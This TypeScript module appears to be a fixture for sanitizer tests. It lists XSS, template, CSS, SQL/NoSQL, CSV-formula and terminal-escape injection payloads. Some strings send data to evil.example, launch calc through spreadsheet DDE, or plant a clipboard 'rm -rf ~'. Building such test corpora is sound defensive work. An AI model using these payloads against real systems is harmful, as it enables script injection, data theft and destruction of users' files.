/** What a payload would run; a page on which it ran has `__xss` on its window. */
const run = 'window.__xss=1'
/** Every element that a payload would make. */
const made = 'data-xss'
const foreign = 'https://evil.example'

/** Control characters by their names in terminals. */
const esc = '\u001b'
const csi = '\u009b'
const osc = '\u009d'
const bell = '\u0007'

const scripts = [
  `<script ${made}>${run}</script>`,
  `<SCRIPT ${made}>${run}</SCRIPT>`,
  `<ScRiPt ${made} >${run}</sCrIpT >`,
  `<script ${made} src=${foreign}/x.js></script>`,
  `<script ${made} src="data:text/javascript,${run}"></script>`,
  `<script ${made} type=module>${run}</script>`,
  `<script ${made}/src="//evil.example/x.js"></script>`,
  `<scr<script>ipt ${made}>${run}</scr</script>ipt>`,
  `<script\n${made}>${run}</script\n>`,
  `<<script ${made}>${run}//<</script>`,
  `</script><script ${made}>${run}</script>`,
  `<script ${made}>/*<!--*/${run}/*-->*/</script>`,
  `<noscript><p title="</noscript><script ${made}>${run}</script>">`,
  `<template><script ${made}>${run}</script></template>`,
]

const handlers = [
  `<img ${made} src=x onerror=${run}>`,
  `<IMG ${made} SRC=x ONERROR="${run}">`,
  `<img/${made}/src=x/onerror=${run}>`,
  `<img ${made} src=x onerror\n=\n${run}>`,
  `<img ${made} src=x onerror=&#119;indow.__xss=1>`,
  `<img ${made} src=x:x onerror=eval(atob('d2luZG93Ll9feHNzPTE='))>`,
  `<img ${made} srcset=x onerror=${run}>`,
  `<body ${made} onload=${run}>`,
  `<input ${made} autofocus onfocus=${run}>`,
  `<textarea ${made} autofocus onfocus=${run}>`,
  `<a ${made} tabindex=1 autofocus onfocus=${run}>x</a>`,
  `<details ${made} open ontoggle=${run}>`,
  `<video ${made}><source onerror=${run}></video>`,
  `<audio ${made} src=x onerror=${run}></audio>`,
  `<marquee ${made} onstart=${run}>x</marquee>`,
  `<iframe ${made} onload=${run}></iframe>`,
  `<object ${made} data=x onerror=${run}></object>`,
  `<div ${made} onpointerover=${run}>x</div>`,
  `<form ${made}><button formaction="javascript:${run}">x</button></form>`,
  `<dialog ${made} open onclose=${run}><form method=dialog><button autofocus>x</button></form></dialog>`,
  `<p ${made} style="animation:x 1s" onanimationstart=${run}>x</p>`,
]

const vectors = [
  `<svg ${made} onload=${run}>`,
  `<svg ${made}><script>${run}</script></svg>`,
  `<svg ${made}><a xlink:href="javascript:${run}"><text y=9>x</text></a></svg>`,
  `<svg ${made}><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg ${made}><set attributeName=onload to=${run}></svg>`,
  `<svg ${made}><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`,
  `<svg ${made}><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  `<svg ${made}><style><img src=x onerror=${run}></style></svg>`,
  `<svg/${made}/onload=${run}//`,
  `<math ${made}><maction actiontype=statusline xlink:href="javascript:${run}">x</maction></math>`,
  `<math ${made} href="javascript:${run}">x</math>`,
  `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" ${made} onload="${run}"/>`,
]

const links = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `java\rscript:${run}`,
  `java\u0000script:${run}`,
  `javascript\u00a0:${run}`,
  `javascript://evil.example/%0a${run}`,
  `javascript:/*--></title></style></script>*/${run}`,
  `&#106;avascript:${run}`,
  `&#x6a;&#x61;vascript&colon;${run}`,
  `javascript&NewLine;:${run}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${run} xmlns="http://www.w3.org/2000/svg"/>`,
  `blob:${foreign}/0f3c`,
  `//evil.example/login`,
  `/\\evil.example/login`,
  `https://own.example@evil.example/login`,
  `<a ${made} href="javascript:${run}">x</a>`,
  `<a ${made} href=&#x6A;avascript:${run}>x</a>`,
  `[x](javascript:${run})`,
  `![x](${foreign}/x.png"onerror="${run})`,
]

const templates = [
  `{{constructor.constructor('${run}')()}}`,
  `{{$on.constructor('${run}')()}}`,
  `{{=${run}}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `{% ${run} %}`,
  `[[${run}]]`,
  `<div ${made} ng-app ng-csp><p ng-click=$event.view.__xss=1>x</p></div>`,
  `<div ${made} v-html="'<img src=x onerror=${run}>'"></div>`,
  `<div ${made} x-data x-init="${run}"></div>`,
]

const styles = [
  `<style ${made}>*{background:url(${foreign}/x)}</style>`,
  `<style ${made}>@import '${foreign}/x.css';</style>`,
  `<link ${made} rel=stylesheet href=${foreign}/x.css>`,
  `<p ${made} style="background:url(javascript:${run})">x</p>`,
  `<p ${made} style="position:fixed;inset:0;z-index:99999">x</p>`,
  `<p ${made} style=width:expression(${run})>x</p>`,
  `</style><img ${made} src=x onerror=${run}>`,
  `red;background:url(${foreign}/x)`,
]

const breakOuts = [
  `"><img ${made} src=x onerror=${run}>`,
  `'><img ${made} src=x onerror=${run}>`,
  `\`><img ${made} src=x onerror=${run}>`,
  `" autofocus onfocus=${run} ${made} x="`,
  `' autofocus onfocus=${run} ${made} x='`,
  ` autofocus onfocus=${run} ${made} x=`,
  `--><img ${made} src=x onerror=${run}><!--`,
  `]]><img ${made} src=x onerror=${run}>`,
  `</title><img ${made} src=x onerror=${run}>`,
  `</textarea><img ${made} src=x onerror=${run}>`,
  `</option></select><img ${made} src=x onerror=${run}>`,
  `';${run};//`,
  `";${run};//`,
  `\\";${run};//`,
  `\`;${run};//`,
  `</script><img ${made} src=x onerror=${run}>`,
  `"}],"__xss":[{"x":"`,
]

const encoded = [
  `&lt;img ${made} src=x onerror=${run}&gt;`,
  `&amp;lt;img ${made} src=x onerror=${run}&amp;gt;`,
  `&#60;img ${made} src=x onerror=${run}&#62;`,
  `&#x3c;img ${made} src=x onerror=${run}&#x3e;`,
  `%3Cimg%20${made}%20src%3Dx%20onerror%3D${run}%3E`,
  `%253Cimg%2520${made}%2520src%253Dx%253E`,
  `\\u003cimg ${made} src=x onerror=${run}\\u003e`,
  `\\x3cimg ${made} src=x onerror=${run}\\x3e`,
  `+ADw-img ${made} src=x onerror=${run}+AD4-`,
  `\uff1cimg ${made} src=x onerror=${run}\uff1e`,
  `\u02c2img ${made} src=x onerror=${run}\u02c3`,
  `\u00bcimg ${made} src=x onerror=${run}\u00be`,
]

const mutations = [
  `<noscript><style></noscript><img ${made} src=x onerror=${run}>`,
  `<math><mtext><table><mglyph><style><img ${made} src=x onerror=${run}>`,
  `<svg><p><style><a id="</style><img ${made} src=x onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img ${made} src=x onerror=${run}>`,
  `<table><td background="javascript:${run}" ${made}>`,
  `<listing>&lt;img ${made} src=x onerror=${run}&gt;</listing>`,
  `<xmp><p title="</xmp><img ${made} src=x onerror=${run}>">`,
  `<!--<img ${made} src="--><img src=x onerror=${run}//">`,
  `<img ${made} src="x\`\`onerror=${run}">`,
  `<base ${made} href=${foreign}/>`,
  `<meta ${made} http-equiv=refresh content="0;url=${foreign}">`,
  `<form id=location ${made}></form><img name=cookie ${made}>`,
]

const invisible = [
  `\u202e<gnp.exe\u202c`,
  `\u2066admin\u2069 balance`,
  `\u200eleft\u200f right`,
  `\u061c123456`,
  `pa\u200bssword`,
  `ad\u200cmin`,
  `ad\u200dmin`,
  `\ufeffadmin`,
  `\u2060official\u2060`,
  `\u00adsupport`,
  `official\u{e0001}\u{e0041}`,
  `line\u2028break`,
  `paragraph\u2029break`,
  `Z${'\u0335\u0489'.repeat(60)}`,
]

const terminals = [
  `${esc}[2J${esc}[1;1Hroot#`,
  `${esc}[31mPAID${esc}[0m`,
  `${esc}]0;title${bell}`,
  `${esc}]8;;${foreign}${bell}click${esc}]8;;${bell}`,
  `${esc}]52;c;cm0gLXJmIH4=${bell}`,
  `${esc}P$q"p${esc}\\`,
  `${csi}2J${csi}31mPAID`,
  `${osc}0;title\u009c`,
  `paid\rrefused`,
  `refused\b\b\b\b\b\b\bpaid`,
  `line\nwd_0000  2030-01-01 00:00  paid`,
  `${bell}${bell}${bell}`,
  `\u000e\u000f\u0085next`,
  `\u007f\u007f\u007f\u007fpaid`,
]

const formulas = [
  `=1+1`,
  `=HYPERLINK("${foreign}?"&A1,"x")`,
  `=cmd|'/c calc'!A1`,
  `+cmd|'/c calc'!A1`,
  `-2+3+cmd|'/c calc'!A1`,
  `@SUM(1+1)*cmd|'/c calc'!A1`,
  `\uff1d1+1`,
  `\uff0b1+1`,
  `\t=1+1`,
  `\r=1+1`,
  `x","=1+1`,
  `x"\r\n=1+1`,
]

const statements = [
  `' or '1'='1`,
  `'; drop table member; --`,
  `" or ""="`,
  `1) union select name from member --`,
  `\\'; select pg_sleep(9); --`,
  `$1`,
  `%' or true --`,
  `{"$ne":null}`,
]

const broken = [
  `nul\u0000byte`,
  `\u0000`,
  `lone high \ud83d`,
  `\udc00 lone low`,
  `\udc00\ud83d turned`,
  `\ufffe\uffff`,
]

const long = [
  '<'.repeat(6_000),
  `${'<b>'.repeat(400)}<img ${made} src=x onerror=${run}>`,
  'A'.repeat(10_000),
  '\u0301'.repeat(2_000),
]

const names = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'undefined',
  'null',
  '[object Object]',
  'true',
]

/** Texts that attack what shows them: a page, a mail, a table, a terminal, a query. */
export const payloads: readonly string[] = [
  scripts,
  handlers,
  vectors,
  links,
  templates,
  styles,
  breakOuts,
  encoded,
  mutations,
  invisible,
  terminals,
  formulas,
  statements,
  broken,
  long,
  names,
].flat()
